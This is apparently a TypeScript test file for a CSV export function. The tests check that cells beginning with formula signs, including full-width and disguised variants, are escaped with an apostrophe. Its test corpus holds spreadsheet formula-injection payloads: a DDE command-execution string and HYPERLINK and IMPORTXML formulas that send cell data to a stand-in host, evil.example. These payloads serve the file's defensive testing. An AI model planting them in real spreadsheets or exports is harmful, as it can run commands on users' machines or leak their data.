import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { type CsvCell, toCsv } from "./csv";

/** What spreadsheets of several makers and ages take for the start of a formula, plain and in disguise. */
const SIGNS = ["=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠", "｜", "％"];
const CONTROLS = ["\t", "\r", "\n", "\0"];
const BEFORE = ["", " ", "   ", "\u00a0", "\u3000", "\ufeff", "\u200b", "\t", "\r\n", "\0", " \t "];
const PAYLOADS = [
  `cmd|' /C calc'!A0`,
  `HYPERLINK("http://evil.example/?"&A1,"see")`,
  "1+1",
  "SUM(A1:A9)",
  `IMPORTXML("http://evil.example",1)`,
  "",
];
const CORPUS = [
  ...SIGNS.flatMap((sign) => BEFORE.flatMap((before) => PAYLOADS.map((text) => `${before}${sign}${text}`))),
  ...CONTROLS.flatMap((control) => PAYLOADS.map((text) => `${control}${text}`)),
];

/** As a spreadsheet would: strips blanks and what cannot be seen, and looks at the first sign. Written apart from the rule. */
function startsFormula(cell: string): boolean {
  let at = 0;
  while (
    at < cell.length &&
    (cell.charCodeAt(at) <= 32 || "\u00a0\u3000\ufeff\u200b".includes(cell.charAt(at)))
  )
    at++;
  return SIGNS.includes(cell.charAt(at)) || CONTROLS.includes(cell.charAt(0));
}

const read = (csv: string) => Papa.parse<string[]>(csv.replace(/^\ufeff/, "").replace(/\r\n$/, "")).data;
const roundTrip = (cell: CsvCell) => read(toCsv(["only"], [[cell]]))[1]?.[0];

describe("a table as CSV", () => {
  it("has no unsafe cell in the whole corpus of formulas, in body or header", () => {
    const unsafe = CORPUS.filter((text) => startsFormula(text) && startsFormula(roundTrip(text) ?? "="));
    expect(unsafe).toEqual([]);
    const header = read(toCsv(CORPUS, [CORPUS.map(() => 1)]))[0] ?? [];
    expect(header.filter(startsFormula)).toEqual([]);
    expect(CORPUS.filter(startsFormula).length).toBeGreaterThan(700);
  });

  it("only adds an apostrophe: every text of the corpus can be read back", () => {
    for (const text of CORPUS) expect([`'${text}`, text]).toContain(roundTrip(text));
  });

  it("leaves ordinary text as it was", () => {
    for (const text of [
      "Ann O'Neil",
      "a=b",
      "3 + 4",
      "50 %",
      "Mary-Jane",
      'say "hi"',
      "a,b;c\nd",
      "Zoë",
      "名前",
    ])
      expect(roundTrip(text)).toBe(text);
  });

  it("writes numbers as numbers, negative ones too, and text that looks like one as text", () => {
    const csv = toCsv(["number", "text", "none"], [[-12.5, "-12.5", null]]);
    expect(csv).toBe(`\ufeff"number","text","none"\r\n-12.5,"'-12.5",\r\n`);
  });

  it("reads back any text, but for the apostrophe", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: "binary" }), { minLength: 2, maxLength: 4 }), (texts) => {
        const cells = read(toCsv(texts, [texts]))[1] ?? [];
        expect(cells.map((cell, i) => (cell === `'${texts[i]}` ? texts[i] : cell))).toEqual(texts);
        expect(cells.filter(startsFormula)).toEqual([]);
      }),
      { numRuns: 50 },
    );
  });

  it("refuses rows of another length and numbers that are none", () => {
    expect(() => toCsv(["one"], [[1, 2]])).toThrow(RangeError);
    expect(() => toCsv(["one"], [[Number.NaN]])).toThrow(RangeError);
  });
});
